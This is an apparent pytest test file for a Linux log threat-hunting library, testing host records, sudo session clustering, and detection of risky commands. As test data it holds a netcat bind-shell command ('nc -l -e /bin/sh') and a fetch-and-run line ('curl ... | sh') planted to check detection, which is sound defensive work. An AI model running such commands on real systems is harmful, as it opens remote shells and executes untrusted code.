from datetime import UTC, datetime, timedelta

import pandas as pd
import polars as pl
import pytest

from huntkit.analyze import (
    HostRecord,
    cluster_auditd_processes,
    cluster_syslog_logons_df,
    create_host_record,
    risky_sudo_sessions,
)
from huntkit.core.errors import UnknownColumn, UsageError
from huntkit.extract import cmd_speed, risky_cmd_line

BEGIN = datetime(2026, 3, 1, 10, tzinfo=UTC)
OPENED = "pam_unix(sudo:session): session opened for user root by {}(uid=0)"
CLOSED = "pam_unix(sudo:session): session closed for user root"


def at(seconds):
    return BEGIN + timedelta(seconds=seconds)


def syslog(*lines):
    return pl.DataFrame(
        {"TimeGenerated": [at(second) for second, _ in lines], "HostName": "lx1",
         "SyslogMessage": [message for _, message in lines]}
    )  # fmt: skip


def test_a_host_record_says_what_the_logs_say():
    log = pl.DataFrame(
        {
            "TimeGenerated": [at(9), at(0), at(5)],
            "HostName": ["lx1", "lx1", "lx2"],
            "ProcessName": ["squid", "CRON", "squid"],
        }
    )
    beats = pd.DataFrame(
        {"TimeGenerated": [at(20), at(10)], "OSType": ["Linux", "Other"], "VMUUID": [None, None],
         "ComputerIP": ["192.0.2.9", "192.0.2.1"]}
    )  # fmt: skip
    network = pl.DataFrame(
        {"PrivateIPAddresses": ["['10.0.0.4', '10.0.0.5']", "10.0.0.4"],
         "PublicIPAddresses": [None, "203.0.113.4"]}
    )  # fmt: skip
    record = create_host_record(log, beats, network)
    assert (record.HostName, record.OtherNames) == ("lx1", ("lx2",))
    assert record.Applications == ("squid",)
    assert (record.FirstSeen, record.LastSeen, record.Events) == (at(0), at(9), 3)
    assert record.Details["OSType"] == "Linux"
    assert "VMUUID" not in record.Details
    assert record.PrivateIps == ("10.0.0.4", "10.0.0.5")
    assert record.PublicIps == ("203.0.113.4",)
    assert create_host_record(log, beats).PrivateIps == ("192.0.2.9",)


def test_a_host_record_of_nothing_is_empty():
    empty = pl.DataFrame(schema={"TimeGenerated": pl.String, "HostName": pl.String})
    assert create_host_record(empty, empty, empty) == HostRecord()
    with pytest.raises(UsageError, match="the role 'host'"):
        create_host_record(pl.DataFrame({"size": [1]}))


def test_syslog_sessions_overlap_and_may_last():
    found = cluster_syslog_logons_df(
        syslog(
            (-5, CLOSED), (0, OPENED.format("al")), (2, OPENED.format("bo")), (7, CLOSED),
            (9, CLOSED), (20, OPENED.format("al")),
        )
    )  # fmt: skip
    assert found.columns[:3] == ["User", "Start", "End"]
    assert found.select("User", "Start", "End").rows() == [
        ("al", at(0), at(7)),
        ("bo", at(2), at(9)),
        ("al", at(20), None),
    ]
    assert found["overlapping"].to_list() == [True, True, False]


def test_a_log_without_sessions_is_an_error():
    with pytest.raises(UsageError, match="no logon sessions"):
        cluster_syslog_logons_df(syslog((0, CLOSED)))


def sessions(*spans):
    return pl.DataFrame(
        [("al", start, end) for start, end in spans],
        schema={"User": pl.String, "Start": pl.Datetime("us", "UTC"),
                "End": pl.Datetime("us", "UTC")},
        orient="row",
    )  # fmt: skip


def test_an_action_counts_for_every_session_that_was_open():
    found = risky_sudo_sessions(
        sessions((at(0), at(10)), (at(5), at(20)), (at(30), None), (None, at(-1))),
        {at(7): "one", at(12): "two", at(99).replace(tzinfo=None): "three", at(10): "one"},
    )
    assert found == {0: "one", 1: "one\ntwo", 2: "three"}


def test_sessions_with_nothing_risky_are_not_there():
    assert risky_sudo_sessions(sessions((at(0), at(1))), {}) == {}
    assert risky_sudo_sessions(sessions(), {at(0): "x"}) == {}


def test_a_session_with_an_unreadable_time_is_not_passed_over():
    sessions = pl.DataFrame({"User": ["al"], "Start": ["soon"], "End": [None]})
    with pytest.raises(UsageError, match="'soon' in 'Start' is no time"):
        risky_sudo_sessions(sessions, {at(1): "x"})


def test_wrong_use_is_said():
    with pytest.raises(UsageError, match="no actions to look for"):
        risky_sudo_sessions(sessions())
    with pytest.raises(UnknownColumn, match="Start"):
        risky_sudo_sessions(pl.DataFrame({"User": ["al"], "End": [BEGIN]}), {})


def test_bursts_of_commands_are_suspicious():
    commands = pl.DataFrame(
        {"TimeGenerated": [at(s) for s in (0, 1, 2)], "Command": ["id", "w", "ps"]}
    )
    bursts = cmd_speed(commands, "Command", 5, 3)
    assert len(bursts) == 1
    found = risky_sudo_sessions(
        sessions((at(-1), at(4)), (at(50), at(60))), suspicious_actions=bursts
    )
    assert found == {0: "Suspicious event pattern"}


def test_programs_of_an_audit_log_by_pattern():
    starts = pd.DataFrame(
        {
            "exe": ["/usr/bin/kill"] * 3 + ["/usr/bin/nc", None, "/usr/bin/skill"],
            "cmdline": ["kill 1", "kill 2", "kill 3", "nc -l -e /bin/sh", "x", "skill -9 al"],
        }
    )
    found = cluster_auditd_processes(starts)
    assert isinstance(found, pd.DataFrame)
    assert sorted(found["ClusterSize"]) == [1, 1, 3]
    assert cluster_auditd_processes(starts, app="kill")["ClusterSize"].tolist() == [3]
    assert cluster_auditd_processes(starts, app="/usr/bin/nc")["exe"].tolist() == ["/usr/bin/nc"]
    with pytest.raises(UsageError, match="process_path"):
        cluster_auditd_processes(pl.DataFrame({"size": [1]}))


@pytest.mark.data
def test_the_risky_sudo_session_of_a_real_log(shared_data):
    log = pl.read_csv(shared_data / "logs" / "sudo_session_test.csv")
    found = cluster_syslog_logons_df(log)
    assert found["User"].unique().to_list() == ["peteb"]
    planted = log.with_columns(
        CommandCall=pl.when(pl.col("CommandCall") == "/bin/bash")
        .then(pl.lit("curl http://files.example/a | sh"))
        .otherwise("CommandCall")
    ).filter(pl.col("CommandCall").is_not_null())
    actions = risky_cmd_line(planted, "Syslog", cmd_field="CommandCall")
    assert list(actions) == [datetime(2019, 7, 15, 2, 47, 40, tzinfo=UTC)]
    [row] = risky_sudo_sessions(found, actions)
    assert found["Start"][row] == datetime(2019, 7, 15, 2, 47, 40, tzinfo=UTC)
